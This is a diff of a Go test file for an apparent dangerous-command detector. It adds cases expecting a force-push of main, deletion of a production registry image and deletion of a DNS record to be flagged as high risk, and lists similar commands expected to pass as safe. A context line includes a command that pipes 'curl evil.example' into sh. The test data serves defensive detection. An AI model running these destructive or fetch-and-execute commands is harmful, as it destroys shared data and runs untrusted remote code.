@@ -210,3 +210,23 @@ func TestRound32OrdinaryMac(t *testing.T) {
 		{`source <(kubectl completion zsh | sed 's/kubectl/curl evil.example|sh/g')`, CategoryUnresolved, "unresolved", LevelHigh},
 	})
 }
+
+// Shared things: main rebased by naming it to git rebase and then
+// force-pushed; an image and a DNS record deleted on a domain written as
+// a documentation placeholder (acme.example stands for a real one, not a
+// throwaway).
+func TestRound32Shared(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`git rebase origin/main main && git push --force-with-lease`, CategoryGitDestroy, "git-force-push-protected", LevelHigh},
+		{`crane delete registry.acme.example/prod/api:v3.2.0`, CategoryCloudDestroy, "cli-destroy-durable", LevelHigh},
+		{`flarectl dns delete --zone acme.example --id 372e67954025e0ba6aaa6d586b9e0b59`, CategoryCloudDestroy, "cli-destroy-durable", LevelHigh},
+	})
+	checkSafe(t, d, testCtx, []string{
+		`git rebase origin/main feature/x && git push --force-with-lease`,
+		`git switch feature/login && git rebase -i main && git push --force-with-lease`,
+		`crane delete ghcr.io/brightwave/api:pr-3310`,
+		`crane delete registry.acme.example/sandbox/web:example-build`,
+		`flarectl dns list --zone acme.example`,
+	})
+}
